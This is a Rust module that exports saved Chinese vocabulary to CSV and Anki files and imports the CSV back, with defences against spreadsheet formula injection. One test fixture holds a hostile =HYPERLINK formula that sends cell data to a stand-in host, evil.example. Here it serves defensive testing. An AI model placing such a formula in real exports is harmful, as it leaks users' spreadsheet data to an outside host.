//! Saved words as files: CSV (everything, and what import reads back) and a
//! tab-separated file Anki imports as notes. Pure text in and out, so it is tested
//! natively.
//!
//! Written by hand rather than with the `csv` crate: the app needs one fixed record
//! shape and RFC 4180 quoting, about forty lines, against a dependency compiled
//! into every reader's WebAssembly.

use crate::i18n::UiText;
use crate::reader::vocab::SavedWord;

/// The CSV header, which import checks.
const COLUMNS: [&str; 8] = [
    "word",
    "pinyin",
    "glosses",
    "hsk",
    "sentence",
    "translation",
    "article",
    "saved_at",
];

/// Separator of several glosses inside the `glosses` column.
const GLOSS_SEPARATOR: &str = "; ";

/// A time in milliseconds as text, as Rust prints an `f64`. Whole numbers (what
/// `Date.now()` gives) go through an integer, any other through JavaScript's
/// shortest spelling (the same digits for times): Rust's own float printing would
/// compile ≈ 12 KB into the wasm for this one column.
fn time_text(millis: f64) -> String {
    if millis.fract() == 0.0 && millis.abs() < 9e15 {
        (millis as i64).to_string()
    } else {
        js_sys::Number::from(millis)
            .to_string_with_radix(10)
            .map(String::from)
            .unwrap_or_default()
    }
}

/// A time in milliseconds read back from its text. In the app through JavaScript's
/// `Number` (correctly rounded, as Rust's parser), after refusing what that would
/// take and Rust would not (blanks, `0x…`, `Infinity`): Rust's float parser would
/// compile ≈ 17 KB of tables into the wasm for this one column.
fn parse_time(text: &str) -> Option<f64> {
    #[cfg(target_arch = "wasm32")]
    {
        let plain = !text.is_empty()
            && text.bytes().all(|byte| {
                byte.is_ascii_digit() || matches!(byte, b'.' | b'-' | b'+' | b'e' | b'E')
            });
        // `Number`'s `FromStr` is JavaScript's `new Number(text)`, never an error.
        let value = text.parse::<js_sys::Number>().ok()?.value_of();
        (plain && !value.is_nan()).then_some(value)
    }
    #[cfg(not(target_arch = "wasm32"))]
    {
        text.parse().ok()
    }
}

/// All saved words as CSV with a header line.
pub fn to_csv(words: &[SavedWord]) -> String {
    let mut out = COLUMNS.join(",");
    out.push_str("\r\n");
    for word in words {
        let fields = [
            inert_cell(&word.word),
            inert_cell(&word.pinyin),
            inert_cell(&word.glosses.join(GLOSS_SEPARATOR)),
            word.hsk.map(|level| level.to_string()).unwrap_or_default(),
            inert_cell(&word.sentence),
            inert_cell(&word.translation),
            inert_cell(&word.slug),
            time_text(word.saved_at),
        ];
        let quoted: Vec<String> = fields.iter().map(|field| quote(field)).collect();
        out.push_str(&quoted.join(","));
        out.push_str("\r\n");
    }
    out
}

/// `text` as a spreadsheet cell that cannot be a formula: spreadsheets evaluate a
/// cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return (a saved
/// sentence `=HYPERLINK(…)` would run), so such text gets a leading `'`, which
/// spreadsheets read as "this is text" and do not show (OWASP's advice for CSV).
/// Text already starting with `'` gets one too, so [`from_cell`] can always drop
/// exactly one and the list reads back as it was.
fn inert_cell(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// A cell written by [`inert_cell`] back to its text.
fn from_cell(cell: String) -> String {
    match cell.strip_prefix('\'') {
        Some(text) => text.to_string(),
        None => cell,
    }
}

/// A field, quoted when it holds a comma, quote or line break.
fn quote(field: &str) -> String {
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_string()
    }
}

/// Notes for Anki's text import: front "word [pinyin]", back the glosses, the
/// sentence and its translation. Anki reads the `#` header lines (separator, no
/// HTML, column names).
pub fn to_anki_tsv(words: &[SavedWord]) -> String {
    let mut out = String::from("#separator:tab\n#html:false\n#columns:Front\tBack\n");
    for word in words {
        let front = inert_cell(&format!("{} [{}]", word.word, word.pinyin));
        let back = [
            word.glosses.join(GLOSS_SEPARATOR),
            word.sentence.clone(),
            word.translation.clone(),
        ]
        .into_iter()
        .filter(|part| !part.is_empty())
        .collect::<Vec<_>>()
        .join(" — ");
        let back = inert_cell(&back);
        out.push_str(&flat(&front));
        out.push('\t');
        out.push_str(&flat(&back));
        out.push('\n');
    }
    out
}

/// Tabs and line breaks would start a new field or note: spaces instead.
fn flat(text: &str) -> String {
    text.replace(['\t', '\n', '\r'], " ")
}

/// Why a file could not be imported: the line and what is wrong there.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImportError {
    pub line: usize,
    pub problem: Problem,
}

/// What is wrong on a line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Problem {
    Empty,
    /// The first line is not the header.
    NotDuet,
    FieldCount(usize),
    EmptyWord,
    BadLevel(String),
    BadTime(String),
    Unclosed,
}

impl ImportError {
    fn new(line: usize, problem: Problem) -> ImportError {
        ImportError { line, problem }
    }

    /// What to tell the reader: the line and what is wrong there.
    pub fn describe(&self, text: &UiText) -> String {
        let problem = match &self.problem {
            Problem::Empty => text.csv_empty.to_string(),
            Problem::NotDuet => text.csv_not_duet.replace("{header}", &COLUMNS.join(",")),
            Problem::FieldCount(found) => text
                .csv_field_count
                .replace("{expected}", &COLUMNS.len().to_string())
                .replace("{found}", &found.to_string()),
            Problem::EmptyWord => text.csv_empty_word.to_string(),
            Problem::BadLevel(level) => {
                text.csv_bad_level.replace("{level}", &format!("{level:?}"))
            }
            Problem::BadTime(value) => text.csv_bad_time.replace("{value}", &format!("{value:?}")),
            Problem::Unclosed => text.csv_unclosed.to_string(),
        };
        text.csv_line
            .replace("{line}", &self.line.to_string())
            .replace("{problem}", &problem)
    }
}

/// Reads a CSV written by [`to_csv`] back (a byte-order mark and `\n` line ends are
/// fine). Every record must have the eight columns; `word` must not be empty.
pub fn from_csv(text: &str) -> Result<Vec<SavedWord>, ImportError> {
    let text = text.trim_start_matches('\u{feff}');
    let records = records(text)?;
    let Some((header_line, header)) = records.first() else {
        return Err(ImportError::new(1, Problem::Empty));
    };
    if header.iter().map(String::as_str).ne(COLUMNS) {
        return Err(ImportError::new(*header_line, Problem::NotDuet));
    }
    let mut words = Vec::new();
    for (line, fields) in &records[1..] {
        if fields.len() == 1 && fields[0].is_empty() {
            continue;
        }
        let error = |problem: Problem| ImportError::new(*line, problem);
        let [word, pinyin, glosses, hsk, sentence, translation, slug, saved_at] =
            <[String; 8]>::try_from(fields.clone())
                .map_err(|fields| error(Problem::FieldCount(fields.len())))?;
        let [word, pinyin, glosses, sentence, translation, slug] =
            [word, pinyin, glosses, sentence, translation, slug].map(from_cell);
        if word.trim().is_empty() {
            return Err(error(Problem::EmptyWord));
        }
        let hsk = match hsk.trim() {
            "" => None,
            level => Some(
                level
                    .parse::<u8>()
                    .ok()
                    .filter(|level| (1..=7).contains(level))
                    .ok_or_else(|| error(Problem::BadLevel(level.to_string())))?,
            ),
        };
        let saved_at =
            parse_time(saved_at.trim()).ok_or_else(|| error(Problem::BadTime(saved_at.clone())))?;
        words.push(SavedWord {
            word,
            pinyin,
            glosses: glosses
                .split(GLOSS_SEPARATOR)
                .filter(|gloss| !gloss.is_empty())
                .map(String::from)
                .collect(),
            hsk,
            sentence,
            translation,
            slug,
            saved_at,
        });
    }
    Ok(words)
}

/// RFC 4180 records with the line each starts on.
fn records(text: &str) -> Result<Vec<(usize, Vec<String>)>, ImportError> {
    let mut records = Vec::new();
    let mut fields = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut line = 1;
    let mut record_line = 1;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => {
                if c == '\n' {
                    line += 1;
                }
                field.push(c);
            }
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => fields.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                fields.push(std::mem::take(&mut field));
                records.push((record_line, std::mem::take(&mut fields)));
                line += 1;
                record_line = line;
            }
            (false, c) => field.push(c),
        }
    }
    if quoted {
        return Err(ImportError::new(record_line, Problem::Unclosed));
    }
    if !field.is_empty() || !fields.is_empty() {
        fields.push(field);
        records.push((record_line, fields));
    }
    Ok(records)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn word(text: &str) -> SavedWord {
        SavedWord {
            word: text.into(),
            pinyin: "dì guī".into(),
            glosses: vec!["recursion".into(), "recursive, to go back".into()],
            hsk: Some(6),
            sentence: "它用\"递归\"的方式，一层层\n展开。".into(),
            translation: "It unfolds, layer by layer, recursively.".into(),
            slug: "recursive-self-improvement".into(),
            saved_at: 1_764_000_000_000.0,
        }
    }

    #[test]
    fn csv_round_trips_quotes_commas_and_line_breaks() {
        let words = vec![
            word("递归"),
            SavedWord {
                hsk: None,
                ..word("智能体")
            },
        ];
        let text = to_csv(&words);
        assert!(text.starts_with("word,pinyin,glosses,hsk,"));
        assert_eq!(from_csv(&text).unwrap(), words);
        // A spreadsheet may save with \n line ends and a byte-order mark.
        let unix = format!("\u{feff}{}", text.replace("\r\n", "\n"));
        assert_eq!(from_csv(&unix).unwrap(), words);
    }

    #[test]
    fn bad_files_say_which_line_and_what() {
        let error = from_csv("name,meaning\n递归,recursion\n").unwrap_err();
        assert_eq!(error.line, 1);
        assert_eq!(error.problem, Problem::NotDuet, "{error:?}");

        let mut text = to_csv(&[word("递归")]);
        text.push_str("模型,mó xíng,model,9,,,x,1\r\n");
        let error = from_csv(&text).unwrap_err();
        // The first record spans two lines (its sentence has a line break).
        assert_eq!(error.line, 4, "{error:?}");
        assert_eq!(error.problem, Problem::BadLevel("9".into()), "{error:?}");

        let error = from_csv(&format!("{}\"open", COLUMNS.join(",") + "\n")).unwrap_err();
        assert_eq!(error.problem, Problem::Unclosed, "{error:?}");
        assert_eq!(from_csv("").unwrap_err().problem, Problem::Empty);
    }

    /// Guards issue 15 item 5: these messages were English in a Chinese interface.
    #[test]
    fn import_errors_are_told_in_the_readers_language() {
        let error = ImportError::new(4, Problem::BadLevel("9".into()));
        let en = error.describe(crate::i18n::ui_text(duet_core::Lang::En));
        let zh = error.describe(crate::i18n::ui_text(duet_core::Lang::Zh));
        assert_eq!(en, "line 4: HSK level \"9\" is not 1–7");
        assert_eq!(zh, "第 4 行：HSK 等级 \"9\" 不在 1–7 之间");
    }

    /// Guards issue 16 finding 6: a saved sentence starting with `=` (or `+ - @`,
    /// a tab, a carriage return) was written as is, and spreadsheets ran it.
    #[test]
    fn exports_cannot_be_formulas_and_read_back_unchanged() {
        let hostile = SavedWord {
            sentence: "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"x\")".into(),
            translation: "+1+1".into(),
            pinyin: "-2".into(),
            glosses: vec!["@SUM(A1)".into()],
            slug: "\tx".into(),
            ..word("=1+1")
        };
        let quoted = SavedWord {
            word: "'=already quoted".into(),
            sentence: "\rcarriage".into(),
            ..word("递归")
        };
        let words = vec![hostile, quoted];
        let csv = to_csv(&words);
        for record in records(&csv).unwrap().into_iter().skip(1) {
            for (column, field) in record.1.iter().enumerate() {
                assert!(
                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "column {column} starts a formula: {field:?}"
                );
            }
        }
        assert_eq!(from_csv(&csv).unwrap(), words);
        let anki = to_anki_tsv(&words);
        for note in anki.lines().filter(|line| !line.starts_with('#')) {
            for field in note.split('\t') {
                assert!(!field.starts_with(['=', '+', '-', '@']), "{field:?}");
            }
        }
    }

    #[test]
    fn anki_notes_are_one_line_each_with_two_fields() {
        let text = to_anki_tsv(&[word("递归")]);
        let notes: Vec<&str> = text.lines().filter(|line| !line.starts_with('#')).collect();
        assert_eq!(notes.len(), 1);
        let fields: Vec<&str> = notes[0].split('\t').collect();
        assert_eq!(fields.len(), 2);
        assert_eq!(fields[0], "递归 [dì guī]");
        assert!(fields[1].starts_with("recursion; recursive, to go back — 它用"));
        assert!(fields[1].ends_with("— It unfolds, layer by layer, recursively."));
        assert!(text.starts_with("#separator:tab\n"));
    }
}
